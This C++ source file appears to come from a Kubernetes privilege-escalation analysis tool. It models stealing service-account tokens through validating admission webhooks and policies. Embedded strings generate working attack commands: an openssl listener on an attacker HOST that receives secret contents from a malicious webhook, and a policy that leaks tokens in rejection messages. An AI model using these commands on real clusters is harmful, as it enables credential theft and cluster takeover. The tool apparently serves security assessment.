#include "graph/base/shell_quote.h"
#include "graph/escalation/requests/company.h"
#include "graph/escalation/requests/read_object.h"
#include "graph/escalation/requests/text.h"
#include "graph/escalation/requests/token_secret.h"
#include "graph/escalation/techniques/all.h"

#include <fmt/format.h>

#include <algorithm>
#include <optional>
#include <string>
#include <string_view>
#include <utility>

namespace nsposture::escalation::techniques {

namespace {

using requests::RightHolders;

constexpr CreatePermissions kWebhooks{kCreateValidatingWebhook};
constexpr CreatePermissions kPolicies{kCreateValidatingPolicy};
constexpr CreatePermissions kPolicyBindings{kCreateValidatingBinding};
constexpr std::string_view kFresh = "token-for-me";
constexpr std::string_view kOurPolicy = "take-over-at-admission";
// What is prepared: a webhook, a policy with its binding, a policy alone.
constexpr std::uint32_t kWebhookReady = 0, kPolicyReady = 1, kPolicyAlone = 2;

// A webhook or policy of the attacker that the API server calls for each request, with its proof.
struct Eye {
  Proof proof;
  std::string name;
  bool is_policy = false;
};

std::optional<Eye> webhook(const Rights& rights, const AccessModel& world) {
  Eye eye;
  if (rights.make_some(eye.proof, kWebhooks, kCluster, eye.name)) return eye;
  for (const auto& name : world.validating_webhooks()) {
    eye.name = name;
    if (rights.change(eye.proof, kWebhooks, kCluster, name)) return eye;
  }
  return std::nullopt;
}

// A policy has no effect without a binding.
std::optional<Eye> policy(const Rights& rights, const AccessModel& world) {
  if (world.holds(rbac::Feature::ValidatingAdmissionPolicy) == rbac::Holds::No) return std::nullopt;
  Eye eye{{}, {}, true};
  std::string binding;
  if (rights.make_some(eye.proof, kPolicies, kCluster, eye.name) &&
      rights.make_some(eye.proof, kPolicyBindings, kCluster, binding)) {
    return eye;
  }
  eye.proof.clear();
  for (const auto& name : world.bound_validating_policies()) {
    eye.name = name;
    if (rights.change(eye.proof, kPolicies, kCluster, name)) return eye;
  }
  return std::nullopt;
}

SeenSecret seen(const Eye& eye, std::string_view secret) {
  return {std::string(secret), eye.name, eye.is_policy, false};
}

// A webhook sees the token that the control plane writes into a new secret. A policy answers only
// the requester, which needs a second request to see what was filled in.
bool writes_new(const Evaluation& at, const Eye& eye, Proof& proof, std::string& name) {
  name = kFresh;
  if (!at.rights.need(proof, kCreateSecret, at.scope, "")) return false;
  if (!eye.is_policy) return true;
  for (const auto right : {kUpdateSecret, kDeleteSecret}) {
    if (at.rights.need(proof, right, at.scope, name)) return true;
    for (const auto& one : at.rights.names(right, at.scope)) {
      name = one;
      const bool free = !at.world.secret_exists(at.scope, one);
      if (free && at.rights.need(proof, right, at.scope, one)) return true;
    }
    name = kFresh;
  }
  return false;
}

// An existing secret: one that is updated may first be filled for another service account.
void with_old(const Evaluation& at, const Eye& eye, PermissionId right) {
  const bool update = right == kUpdateSecret;
  auto any = eye.proof;
  if (at.rights.need_any(any, right, at.scope)) {
    at.sink.emit({update ? NodeType::RetargetedSecrets : NodeType::TokenSecrets, at.scope, 0}, any,
                 seen(eye, {}));
    return;
  }
  if (at.rights.names(right, at.scope).empty()) return;
  for (const auto index : at.world.token_secrets()) {
    const auto& secret = at.world.secrets()[index];
    auto proof = eye.proof;
    if (!at.includes(secret.ns) || !at.rights.need(proof, right, at.scope, secret.name)) continue;
    const NodeKey key =
        update ? NodeKey{NodeType::Accounts, secret.ns, 0}
               : NodeKey{NodeType::Identity, at.identities.account(secret.account), kReal};
    at.sink.emit(key, proof, seen(eye, secret.name));
  }
}

void look(const Evaluation& at, const Eye& eye) {
  auto proof = eye.proof;
  std::string name;
  if (writes_new(at, eye, proof, name)) {
    at.sink.emit({NodeType::Accounts, at.scope, 0}, proof, seen(eye, name));
    return;
  }
  for (const auto right : {kUpdateSecret, kDeleteSecret}) with_old(at, eye, right);
}

// Secrets that the identity writes itself; one that patches or lists them does not need this.
void edges(const Evaluation& at) {
  const auto held = at.rights.set_for(at.scope);
  if (!held.test(kCreateSecret) && !held.test(kUpdateSecret) && !held.test(kDeleteSecret)) return;
  if (const auto eye = webhook(at.rights, at.world)) look(at, *eye);
  if (const auto eye = policy(at.rights, at.world)) look(at, *eye);
}

// A webhook or policy that one member has set up, and the members that write secrets.
class Watched {
 public:
  // `after`: what must be ready before the owner sets it up.
  Watched(Company& company, const Member& owner, Eye eye, std::optional<NodeKey> after = {})
      : company_(company), owner_(owner), eye_(std::move(eye)), after_(after) {}

  void look() {
    if (!eye_.is_policy) look_at_new();
    for (const auto right : {kUpdateSecret, kDeleteSecret}) look_at_old(right);
  }

 private:
  void take(const Member& writer, const NodeKey& to, Proof proof, std::string_view secret) {
    if (company_.has(to)) return;
    const auto set_up = requests::prepared(TechniqueId::WatchAdmission,
                                           eye_.is_policy ? kPolicyReady : kWebhookReady);
    company_.take(owner_,
                  {TechniqueId::WatchAdmission, set_up, eye_.proof, seen(eye_, {}), after_});
    company_.take(writer,
                  {TechniqueId::WatchAdmission, to, std::move(proof),
                   SeenSecret{std::string(secret), eye_.name, eye_.is_policy, true}, set_up});
  }

  void look_at_new() {
    const RightHolders makers(company_, {kCreateSecret});
    for (const auto scope : makers.scopes()) {
      Proof proof;
      if (scope == kCluster) continue;
      if (const auto* maker = makers.find(scope, "", proof)) {
        take(*maker, {NodeType::Accounts, scope, 0}, std::move(proof), kFresh);
      }
    }
  }

  void look_at_old(PermissionId right) {
    const RightHolders writers(company_, {right});
    const auto& world = company_.world();
    if (writers.empty()) return;
    for (const auto index : world.token_secrets()) {
      const auto& secret = world.secrets()[index];
      Proof proof;
      const auto* writer = writers.find(secret.ns, secret.name, proof);
      if (writer == nullptr) continue;
      const NodeKey key =
          right == kUpdateSecret
              ? NodeKey{NodeType::Accounts, secret.ns, 0}
              : NodeKey{NodeType::Identity, company_.identities().account(secret.account), kReal};
      take(*writer, key, std::move(proof), secret.name);
    }
  }

  Company& company_;
  const Member& owner_;
  Eye eye_;
  std::optional<NodeKey> after_;
};

// The member that may create one of a kind, under any name.
const Member* maker_of(const Company& company, const CreatePermissions& kind, Eye& eye) {
  for (const auto& member : company.members()) {
    eye = {{}, {}, true};
    if (member.rights.make_some(eye.proof, kind, kCluster, eye.name)) return &member;
  }
  return nullptr;
}

// A policy of one member, which the binding of another activates.
void policy_of_two(Company& company) {
  if (company.world().holds(rbac::Feature::ValidatingAdmissionPolicy) == rbac::Holds::No) return;
  Eye policy, binding;
  const auto* maker = maker_of(company, kPolicies, policy);
  const auto* binder = maker_of(company, kPolicyBindings, binding);
  if (maker == nullptr || binder == nullptr || maker == binder) return;
  // The binding names it, in a separate step.
  if (policy.name.empty()) policy.name = kOurPolicy;
  const auto made = requests::prepared(TechniqueId::WatchAdmission, kPolicyAlone);
  company.take(*maker, {TechniqueId::WatchAdmission, made, policy.proof, seen(policy, {}), {}});
  binding.name = policy.name;
  Watched(company, *binder, std::move(binding), made).look();
}

// One identity makes the API server call its webhook or policy, another writes the secret.
void together(Company& company) {
  for (const auto find : {webhook, policy}) {
    for (const auto& member : company.members()) {
      auto eye = find(member.rights, company.world());
      if (!eye) continue;
      Watched(company, member, std::move(*eye)).look();
      break;
    }
  }
  policy_of_two(company);
}

// What it receives is written to the same folder as the commands run in.
constexpr std::string_view kOwnCertificate =
    "openssl req -x509 -newkey rsa:2048 -nodes -days 7 -keyout hook.key -out hook.crt -subj "
    "/CN=HOST -addext subjectAltName=IP:HOST\n";
constexpr std::string_view kListen =
    "(sleep 20 | timeout --foreground 20 openssl s_server -quiet -accept 9443 -cert hook.crt -key hook.key "
    "> seen.txt 2> /dev/null &)\n";
constexpr std::string_view kWebhookSpec =
    R"(,"webhooks":[{"name":"take.over.example","sideEffects":"None","admissionReviewVersions":["v1"],"failurePolicy":"Ignore","timeoutSeconds":1,"clientConfig":{"url":"https://HOST:9443/","caBundle":"BASE64"},"rules":[{"operations":["UPDATE","DELETE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["secrets"]}]}])";
constexpr std::string_view kPolicySpec =
    R"~(,"spec":{"failurePolicy":"Ignore","matchConstraints":{"resourceRules":[{"operations":["UPDATE","DELETE"],"apiGroups":[""],"apiVersions":["v1"],"resources":["secrets"]}]},"matchConditions":[{"name":"mine","expression":"request.dryRun && has(oldObject.data) && 'token' in oldObject.data"}],"validations":[{"expression":"false","messageExpression":"string(oldObject.data.token)"}]})~";
constexpr std::string_view kVersion = "admissionregistration.k8s.io/v1";

// The command before creates its certificate.
std::string with_certificate(std::string request) {
  constexpr std::string_view kPlace = "\"BASE64\"";
  request.replace(request.rfind(kPlace), kPlace.size(), R"~("'"$(base64 -w0 hook.crt)"'")~");
  return request;
}

StepText written(const StepView& view, PermissionId create, std::string_view resource,
                 const std::string& json) {
  if (requests::uses(view.edge, create)) return {requests::send_object(view, create, json), {}};
  const auto& name = std::get<SeenSecret>(view.edge.detail).eye;
  return requests::overwrite_versioned(view, static_cast<PermissionId>(create + 2),
                                       {kAdmissionGroup, "v1", resource, {}, name}, json);
}

// The commands that activate it, which takes a moment.
StepText set_up(const StepView& view) {
  const auto& how = std::get<SeenSecret>(view.edge.detail);
  const auto name = requests::fresh_name(view, how.eye);
  if (!how.by_policy) {
    auto made = written(
        view, kCreateValidatingWebhook, "validatingwebhookconfigurations",
        requests::object_json(kVersion, "ValidatingWebhookConfiguration", {}, name, kWebhookSpec));
    made.request = std::string(kOwnCertificate) + with_certificate(made.request) + "\nsleep 3";
    return made;
  }
  const bool binds = requests::uses(view.edge, kCreateValidatingBinding);
  StepText made;
  if (!binds || requests::uses(view.edge, kCreateValidatingPolicy)) {
    made = written(
        view, kCreateValidatingPolicy, "validatingadmissionpolicies",
        requests::object_json(kVersion, "ValidatingAdmissionPolicy", {}, name, kPolicySpec));
  }
  if (binds) {
    const auto bound = requests::name_used(view.edge, kCreateValidatingBinding);
    const auto binding = requests::object_json(
        kVersion, "ValidatingAdmissionPolicyBinding", {}, bound.empty() ? name : bound,
        fmt::format(R"(,"spec":{{"policyName":{},"validationActions":["Deny"]}})",
                    requests::json_text(name)));
    made.request += made.request.empty() ? "" : "\n";
    made.request += requests::send_object(view, kCreateValidatingBinding, binding);
  }
  made.request += "\nsleep 3";
  return made;
}

// The secret of this step, and whether it already holds a token of the service account.
struct Shown {
  std::string name;
  bool is_new = false;
  bool is_theirs = false;
};

Shown shown_secret(const StepView& view) {
  Shown shown{std::get<SeenSecret>(view.edge.detail).name,
              requests::uses(view.edge, kCreateSecret)};
  if (shown.is_new) {
    if (shown.name == kFresh) shown.name += view.suffix;
    return shown;
  }
  for (const auto index : view.world.token_secrets()) {
    const auto& secret = view.world.secrets()[index];
    if (view.world.scope_name(secret.ns) != view.account_ns) continue;
    if (!shown.name.empty() && shown.name != secret.name) continue;
    const bool theirs = view.world.accounts()[secret.account].name == view.account;
    if (shown.name.empty() || theirs) shown = {secret.name, false, theirs};
    if (theirs) break;
  }
  return shown;
}

// A request for the secret that changes nothing, to make it visible.
std::string dry_run(const StepView& view, const std::string& name) {
  if (requests::uses(view.edge, kUpdateSecret)) {
    return fmt::format("{} replace --dry-run=server --validate=false -f - <<< {}", view.kubectl,
                       shell_quote(requests::token_secret_json(view, name, {}, {})));
  }
  return fmt::format("{} delete --raw {}", view.kubectl,
                     shell_quote(fmt::format("/api/v1/namespaces/{}/secrets/{}?dryRun=All",
                                             view.account_ns, name)));
}

std::string fill(const StepView& view, const Shown& shown) {
  return shown.is_new ? requests::send_object(view, kCreateSecret,
                                              requests::token_secret_json(view, shown.name, {}, {}))
                      : requests::retarget_line(view, shown.name);
}

// Writes the secret, and stores the token that is shown.
std::string trigger(const StepView& view) {
  const auto shown = shown_secret(view);
  const bool full = !shown.is_new && (shown.is_theirs || requests::uses(view.edge, kDeleteSecret));
  if (std::get<SeenSecret>(view.edge.detail).by_policy) {
    const auto filled = full ? std::string() : fill(view, shown) + "\nsleep 2\n";
    return filled +
           requests::keep_token(view, dry_run(view, shown.name) +
                                          " 2>&1 | grep -o 'ZXlK[A-Za-z0-9+/=]*' | base64 -d");
  }
  const auto request = full ? dry_run(view, shown.name) : fill(view, shown);
  return fmt::format(
      "{}sleep 1\n{}\nsleep 5\n{}", kListen, request,
      requests::keep_token(view,
                           R"~(grep -ao '"token":"[^"][^"]*"' seen.txt | tail -n 1 | cut -d'"' )~"
                           "-f4 | base64 -d"));
}

StepText text(const StepView& view) {
  const auto& how = std::get<SeenSecret>(view.edge.detail);
  const bool is_eye = requests::uses(view.edge, kCreateValidatingWebhook) ||
                      requests::uses(view.edge, kUpdateValidatingWebhook) ||
                      requests::uses(view.edge, kPatchValidatingWebhook) ||
                      requests::uses(view.edge, kCreateValidatingPolicy) ||
                      requests::uses(view.edge, kCreateValidatingBinding) ||
                      requests::uses(view.edge, kUpdateValidatingPolicy) ||
                      requests::uses(view.edge, kPatchValidatingPolicy);
  StepText step;
  step.because = how.by_policy ? "a validating policy may refuse a request with the old content "
                                 "of the secret, its token among it"
                               : "a validating webhook is shown the content of secrets that are "
                                 "written or deleted, their tokens among it";
  if (is_eye) {
    auto made = set_up(view);
    step.request = std::move(made.request);
    step.because += made.because;
    if (!how.by_policy) {
      step.because += "; HOST is an IP address of one's own that the API server reaches";
    }
  }
  const bool writes = requests::uses(view.edge, kCreateSecret) ||
                      requests::uses(view.edge, kUpdateSecret) ||
                      requests::uses(view.edge, kDeleteSecret);
  if (writes) step.request += (is_eye ? "\n" : "") + trigger(view);
  return step;
}

}  // namespace

Technique watch_admission() {
  return {.id = TechniqueId::WatchAdmission,
          .title = "See a token at admission",
          .attack = "T1556",
          .cis = "5.1.12",
          .takes = Takes::Administration,
          .cost = 20,
          .where = kInNamespaces,
          .any_of = {kCreateValidatingWebhook, kUpdateValidatingWebhook, kPatchValidatingWebhook,
                     kCreateValidatingPolicy, kUpdateValidatingPolicy, kPatchValidatingPolicy},
          .edges = edges,
          .joint = {.shared = together},
          .text = text,
          .needs = "token secret"};
}

}  // namespace nsposture::escalation::techniques
